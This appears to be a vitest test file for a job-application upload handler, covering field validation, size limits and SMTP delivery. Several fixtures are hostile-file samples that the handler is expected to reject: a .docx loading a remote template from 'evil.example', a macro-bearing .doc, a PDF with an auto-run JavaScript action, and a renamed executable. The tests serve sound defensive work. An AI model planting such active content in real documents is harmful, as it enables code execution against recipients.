import { afterEach, describe, expect, it, vi } from 'vitest';
import { RESUME_MAX_BYTES } from '../forms/resume-file';
import { APPLICATION_MAX_BYTES, createApplicationHandler } from './application-handler';
import { mkdtempSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { spoolingSmtpTransport } from './node/mail-transport';
import { mailSettingsFromEnvironment } from './node/server-settings';
import type { MailTransport } from './ports';
import type { RecordedMail } from './__fixtures__/transports';
import { nodeMultipartReader } from './node/multipart-upload';
import { tmpdir } from 'node:os';
import { handlerOverRecordingTransport, readJson } from './__fixtures__/handler-requests';
import { header, unwrapped } from './__fixtures__/raw-mail';
import { useSmtpTestServer, type ReceivedMail } from './__fixtures__/smtp-test-server';
import { oleWith } from './__fixtures__/ole';
import { docxWith, relationships } from './__fixtures__/zip';

const URL_ = 'http://localhost/api/application';

const VALID = {
  name: 'Giulia Rossi',
  email: 'giulia.rossi@acme.example',
  phone: '+39 347 123 4567',
  position: 'Backend engineer',
  message: 'I have built hiring tools for five years and would love to join.',
};

type Fields = Partial<Record<keyof typeof VALID, string>>;

const encode = (text: string) => new TextEncoder().encode(text);

/** Concatenates bytes and latin-1 strings (one byte per character) into one byte array. */
function bytes(...parts: (string | ArrayLike<number>)[]): Uint8Array<ArrayBuffer> {
  return Uint8Array.from(
    parts.flatMap((part) => Array.from(typeof part === 'string' ? Buffer.from(part, 'latin1') : part)),
  );
}

/** Tiny real files, recognised by their first bytes. */
const PDF = encode('%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n');
const DOC = oleWith(['WordDocument', '1Table']);
const DOCX = docxWith();
const EXE = bytes('MZ', [0x90, 0x00, 0x03, 0x00], 'This program cannot be run in DOS mode.');
/** Active content a recruiter would run by opening the file (issue 30). */
const DOCX_REMOTE_TEMPLATE = docxWith([
  {
    name: 'word/_rels/settings.xml.rels',
    data: relationships(
      'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate',
      'http://evil.example/t.dotm',
      'External',
    ),
  },
]);
const DOC_WITH_MACROS = oleWith(['WordDocument'], ['Macros']);
const PDF_WITH_JAVASCRIPT = encode(
  '%PDF-1.4\n1 0 obj <</Type /Catalog /OpenAction <</S /JavaScript /JS (app.alert(1))>>>> endobj\ntrailer <<>>\n%%EOF\n',
);

/** A PDF of exactly `size` bytes (its header, zeros, its end marker). */
function pdfOfSize(size: number): Uint8Array<ArrayBuffer> {
  const content = new Uint8Array(size);
  content.set(encode('%PDF-1.4\n'));
  content.set(encode('\n%%EOF\n'), size - 7);
  return content;
}

/** The form's body: every text field (the form sends empty strings for phone and message). */
function formData(fields: Fields = VALID, resume?: File): FormData {
  const form = new FormData();
  for (const [name, value] of Object.entries(fields)) form.append(name, value);
  if (resume) form.append('resume', resume, resume.name);
  return form;
}

const file = (content: Uint8Array<ArrayBuffer>, name: string, type = '') => new File([content], name, { type });

const post = (body: FormData) => new Request(URL_, { method: 'POST', body });

/** The Node adapter's reader: each résumé streamed to a temporary file. */
const readMultipart = nodeMultipartReader(tmpdir());

/** Sends `request` to a handler over a recording transport; answers the response and the mails. */
const handle = handlerOverRecordingTransport((transport) => createApplicationHandler(transport, { readMultipart }));

afterEach(() => {
  vi.restoreAllMocks();
});

describe('a valid application', () => {
  it('answers 200 and mails every field with the PDF résumé attached', async () => {
    const resume = file(PDF, 'Giulia Rossi CV.pdf', 'application/pdf');

    const { response, body, mails } = await handle(post(formData(VALID, resume)));

    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/^application\/json/);
    expect(body).toEqual({ ok: true });
    expect(mails).toHaveLength(1);
    const [mail] = mails as [RecordedMail];
    expect(mail.subject).toContain(VALID.position);
    expect(mail.subject).toContain(VALID.name);
    expect(mail.replyTo).toBe(VALID.email);
    for (const value of Object.values(VALID)) expect(mail.text).toContain(value);
    expect(mail.text).toContain('Resume: Giulia Rossi CV.pdf');
    expect(mail.attachments).toHaveLength(1);
    const [attachment] = mail.attachments;
    expect(attachment?.filename).toBe('Giulia Rossi CV.pdf');
    expect(attachment?.contentType).toBe('application/pdf');
    expect(Array.from(attachment?.content ?? [])).toEqual(Array.from(PDF));
  });

  it('answers 200 without a résumé and with an empty phone and message, as the form sends them', async () => {
    const { response, body, mails } = await handle(post(formData({ ...VALID, phone: '', message: '' })));

    expect(response.status).toBe(200);
    expect(body).toEqual({ ok: true });
    expect(mails).toHaveLength(1);
    const [mail] = mails as [RecordedMail];
    expect(mail.attachments).toEqual([]);
    expect(mail.text).toContain('Resume: not attached');
    expect(mail.text).toContain('Phone: -');
    expect(mail.text).toContain('(no message)');
    expect(mail.text).toContain(`Name: ${VALID.name}`);
    expect(mail.text).toContain(`Position: ${VALID.position}`);
  });

  it('treats an empty file input (no name, no bytes) as no résumé', async () => {
    const { response, mails } = await handle(post(formData(VALID, file(new Uint8Array(), ''))));

    expect(response.status).toBe(200);
    expect(mails).toHaveLength(1);
    expect(mails[0]?.attachments ?? []).toEqual([]);
    expect(mails[0]?.text).toContain('Resume: not attached');
  });

  it('accepts a request that leaves out phone and message altogether', async () => {
    const { name, email, position } = VALID;

    const { response, mails } = await handle(post(formData({ name, email, position })));

    expect(response.status).toBe(200);
    expect(mails).toHaveLength(1);
  });

  it('trims the fields before mailing them', async () => {
    const { response, mails } = await handle(
      post(formData({ ...VALID, name: '  Giulia Rossi ', email: ' giulia.rossi@acme.example\t', position: ' QA\n' })),
    );

    expect(response.status).toBe(200);
    const [mail] = mails as [RecordedMail];
    expect(mail.replyTo).toBe(VALID.email);
    expect(mail.subject).toBe('Application: QA (Giulia Rossi)');
    expect(mail.text).toContain('Name: Giulia Rossi\n');
  });

  it.each([
    ['a .doc', DOC, 'cv.doc', 'application/msword'],
    ['a .docx', DOCX, 'cv.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
    ['a PDF with an upper-case extension', PDF, 'CV.PDF', 'application/pdf'],
  ])('attaches %s with its content type', async (_label, content, name, contentType) => {
    const { response, mails } = await handle(post(formData(VALID, file(content, name))));

    expect(response.status).toBe(200);
    const [attachment] = mails[0]?.attachments ?? [];
    expect(attachment?.filename).toBe(name);
    expect(attachment?.contentType).toBe(contentType);
    expect(Array.from(attachment?.content ?? [])).toEqual(Array.from(content));
  });
});

describe('invalid fields', () => {
  it.each([
    ['a name too short', { name: 'A' }, { name: 'candidateApplication.nameValidation' }],
    ['a malformed email', { email: 'giulia.rossi@' }, { email: 'candidateApplication.emailValidation' }],
    ['an empty position', { position: '' }, { position: 'candidateApplication.positionValidation' }],
    ['a name too long', { name: 'x'.repeat(121) }, { name: 'candidateApplication.tooLong' }],
    ['a message too long', { message: 'x'.repeat(4001) }, { message: 'candidateApplication.tooLong' }],
  ])('answers 400 for %s and sends nothing', async (_label, change, errors) => {
    const { response, body, mails } = await handle(post(formData({ ...VALID, ...change }, file(PDF, 'cv.pdf'))));

    expect(response.status).toBe(400);
    expect(body).toEqual({ error: 'invalid-fields', errors });
    expect(mails).toEqual([]);
  });

  it('reports name, email and position at once', async () => {
    const { response, body, mails } = await handle(
      post(formData({ ...VALID, name: 'A', email: 'not-an-email', position: '' })),
    );

    expect(response.status).toBe(400);
    expect(body).toEqual({
      error: 'invalid-fields',
      errors: {
        name: 'candidateApplication.nameValidation',
        email: 'candidateApplication.emailValidation',
        position: 'candidateApplication.positionValidation',
      },
    });
    expect(mails).toEqual([]);
  });

  it('maps missing required fields to the same keys', async () => {
    const { response, body, mails } = await handle(post(formData({ phone: '', message: '' })));

    expect(response.status).toBe(400);
    expect(body.errors).toEqual({
      name: 'candidateApplication.nameValidation',
      email: 'candidateApplication.emailValidation',
      position: 'candidateApplication.positionValidation',
    });
    expect(mails).toEqual([]);
  });

  it('reports an invalid résumé together with invalid fields', async () => {
    const { response, body, mails } = await handle(post(formData({ ...VALID, name: 'A' }, file(EXE, 'cv.pdf'))));

    expect(response.status).toBe(400);
    expect(body.errors).toEqual({
      name: 'candidateApplication.nameValidation',
      resume: 'candidateApplication.resumeContent',
    });
    expect(mails).toEqual([]);
  });

  it('answers 400 with the invalidBody key to a multipart body that cannot be parsed', async () => {
    const request = new Request(URL_, {
      method: 'POST',
      headers: { 'Content-Type': 'multipart/form-data; boundary=x' },
      body: 'not a multipart body',
    });

    const { response, body, mails } = await handle(request);

    expect(response.status).toBe(400);
    expect(body).toEqual({ error: 'invalid-fields', errors: { '(body)': 'candidateApplication.invalidBody' } });
    expect(mails).toEqual([]);
  });

  it.each([
    [
      'a second résumé part',
      (form: FormData) => {
        form.append('resume', file(PDF, 'second.pdf'));
      },
    ],
    [
      'a file part in another field',
      (form: FormData) => {
        form.append('photo', file(PDF, 'photo.pdf'));
      },
    ],
    [
      '21 other file parts before the résumé',
      (form: FormData) => {
        for (let part = 0; part < 21; part += 1) form.append(`other${String(part)}`, file(PDF, 'a.pdf'));
      },
    ],
  ])(
    'answers 400 with the invalidBody key to %s instead of dropping the résumé (Node reader)',
    async (_label, addParts) => {
      const form = formData(VALID);
      addParts(form);
      form.append('resume', file(PDF, 'cv.pdf'));

      const { response, body, mails } = await handle(post(form));

      expect(response.status).toBe(400);
      expect(body).toEqual({ error: 'invalid-fields', errors: { '(body)': 'candidateApplication.invalidBody' } });
      expect(mails).toEqual([]);
    },
  );
});

describe('résumé checks', () => {
  it.each([
    ['a renamed .exe sent as cv.pdf', file(EXE, 'cv.pdf', 'application/pdf'), 'candidateApplication.resumeContent'],
    ['a PDF named cv.txt', file(PDF, 'cv.txt', 'text/plain'), 'candidateApplication.resumeType'],
    ['a .docx whose bytes are a PDF', file(PDF, 'cv.docx'), 'candidateApplication.resumeContent'],
    ['a .doc whose bytes are a .docx', file(DOCX, 'cv.doc'), 'candidateApplication.resumeContent'],
    ['a text file named cv.pdf', file(encode('Giulia Rossi, CV'), 'cv.pdf'), 'candidateApplication.resumeContent'],
    ['an empty cv.pdf', file(new Uint8Array(), 'cv.pdf'), 'candidateApplication.resumeEmpty'],
    ['a .docx with a remote template', file(DOCX_REMOTE_TEMPLATE, 'cv.docx'), 'candidateApplication.resumeContent'],
    ['a .doc with macros', file(DOC_WITH_MACROS, 'cv.doc'), 'candidateApplication.resumeContent'],
    ['a PDF running JavaScript', file(PDF_WITH_JAVASCRIPT, 'cv.pdf'), 'candidateApplication.resumeContent'],
  ])('answers 400 to %s and sends nothing', async (_label, resume, key) => {
    const { response, body, mails } = await handle(post(formData(VALID, resume)));

    expect(response.status).toBe(400);
    expect(body).toEqual({ error: 'invalid-fields', errors: { resume: key } });
    expect(mails).toEqual([]);
  });

  it('refuses a résumé sent as a plain text part instead of a file', async () => {
    const form = formData(VALID);
    form.append('resume', '%PDF-1.4 pasted as text');
    const { response, body, mails } = await handle(post(form));

    expect(response.status).toBe(400);
    expect(body.errors).toEqual({ resume: 'candidateApplication.resumeType' });
    expect(mails).toEqual([]);
  });
});

describe('body size', () => {
  it('leaves room in APPLICATION_MAX_BYTES for the fields around a résumé of the maximum size', () => {
    expect(APPLICATION_MAX_BYTES).toBeGreaterThan(RESUME_MAX_BYTES);
  });

  it('accepts a résumé of exactly RESUME_MAX_BYTES', async () => {
    const { response, mails } = await handle(post(formData(VALID, file(pdfOfSize(RESUME_MAX_BYTES), 'cv.pdf'))));

    expect(response.status).toBe(200);
    expect(mails).toHaveLength(1);
    expect(mails[0]?.attachments[0]?.content.byteLength).toBe(RESUME_MAX_BYTES);
  });

  it('answers 400 resumeSize to a résumé of RESUME_MAX_BYTES + 1 (the body is still within the limit)', async () => {
    const { response, body, mails } = await handle(
      post(formData(VALID, file(pdfOfSize(RESUME_MAX_BYTES + 1), 'cv.pdf'))),
    );

    expect(response.status).toBe(400);
    expect(body).toEqual({ error: 'invalid-fields', errors: { resume: 'candidateApplication.resumeSize' } });
    expect(mails).toEqual([]);
  });

  it('answers 413 to a body over APPLICATION_MAX_BYTES, and sends nothing', async () => {
    const request = post(formData(VALID, file(pdfOfSize(APPLICATION_MAX_BYTES + 1), 'cv.pdf')));
    expect(request.headers.get('content-length')).toBeNull();

    const { response, body, mails } = await handle(request);

    expect(response.status).toBe(413);
    expect(body).toEqual({ error: 'payload-too-large', limitBytes: APPLICATION_MAX_BYTES });
    expect(mails).toEqual([]);
  });

  it('answers 413 to a Content-Length over the limit without reading the body', async () => {
    let pulled = false;
    const stream = new ReadableStream<Uint8Array>(
      {
        pull(controller) {
          pulled = true;
          controller.close();
        },
      },
      { highWaterMark: 0 }, // pull only when read
    );
    const request = new Request(URL_, {
      method: 'POST',
      headers: {
        'Content-Type': 'multipart/form-data; boundary=x',
        'Content-Length': String(APPLICATION_MAX_BYTES + 1),
      },
      body: stream,
      duplex: 'half',
    } as RequestInit);

    const { response, mails } = await handle(request);

    expect(response.status).toBe(413);
    expect(mails).toEqual([]);
    expect(pulled).toBe(false);
  });
});

describe('method and media type', () => {
  it('answers 405 with Allow: POST to GET', async () => {
    const { response, body, mails } = await handle(new Request(URL_));

    expect(response.status).toBe(405);
    expect(response.headers.get('allow')).toBe('POST');
    expect(body).toEqual({ error: 'method-not-allowed' });
    expect(mails).toEqual([]);
  });

  it('answers 415 to a JSON body, even one holding valid fields', async () => {
    const request = new Request(URL_, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify(VALID),
    });

    const { response, body, mails } = await handle(request);

    expect(response.status).toBe(415);
    expect(body).toEqual({ error: 'unsupported-media-type', expected: 'multipart/form-data' });
    expect(mails).toEqual([]);
  });

  it('answers 415 to a URL-encoded form', async () => {
    const { response, mails } = await handle(new Request(URL_, { method: 'POST', body: new URLSearchParams(VALID) }));

    expect(response.status).toBe(415);
    expect(mails).toEqual([]);
  });
});

describe('delivery failure', () => {
  it('answers 500 storage-failed and logs the error when even storing fails', async () => {
    const consoleError = vi.spyOn(console, 'error').mockImplementation(() => undefined);
    const failure = new Error('connect ECONNREFUSED 127.0.0.1:25');
    let attempts = 0;
    const transport: MailTransport = {
      send() {
        attempts += 1;
        return Promise.reject(failure);
      },
    };

    const response = await createApplicationHandler(transport, { readMultipart })(
      post(formData(VALID, file(PDF, 'cv.pdf'))),
    );

    expect(response.status).toBe(500);
    expect(await readJson(response)).toEqual({ error: 'storage-failed' });
    expect(attempts).toBe(1);
    expect(consoleError).toHaveBeenCalledTimes(1);
    expect(consoleError).toHaveBeenCalledWith(expect.any(String), failure);
  });
});

describe('delivery through a real SMTP server', () => {
  const FROM = 'Talvera website <website@talvera.example>';
  const TO = 'jobs@talvera.example';
  type Received = ReceivedMail;
  let received: Received[];
  let smtpUrl: string;
  useSmtpTestServer((smtp) => {
    ({ url: smtpUrl, received } = smtp);
  });

  it('delivers an application with its résumé attached', async () => {
    const spoolDir = mkdtempSync(join(tmpdir(), 'talvera-spool-'));
    const mail = spoolingSmtpTransport({ ...mailSettingsFromEnvironment({}), spoolDir, from: FROM, to: TO, smtpUrl });
    const handler = createApplicationHandler(mail, { readMultipart });

    const response = await handler(post(formData(VALID, file(PDF, 'giulia-rossi-cv.pdf', 'application/pdf'))));

    expect(response.status).toBe(200);
    expect(received).toHaveLength(1);
    const [{ rcptTo, raw }] = received as [Received];
    expect(rcptTo).toEqual([TO]);
    expect(header(raw, 'Subject')).toBe(`Application: ${VALID.position} (${VALID.name})`);
    expect(header(raw, 'Reply-To')).toBe(VALID.email);
    expect(header(raw, 'Content-Type')).toMatch(/^multipart\/mixed/);
    for (const value of Object.values(VALID)) expect(raw).toContain(value);
    expect(raw).toMatch(/Content-Type: application\/pdf; name="?giulia-rossi-cv\.pdf"?/);
    expect(raw).toMatch(/Content-Disposition: attachment; filename="?giulia-rossi-cv\.pdf"?/);
    expect(raw).toContain('Content-Transfer-Encoding: base64');
    expect(unwrapped(raw)).toContain(Buffer.from(PDF).toString('base64'));
    rmSync(spoolDir, { recursive: true, force: true });
  });
});
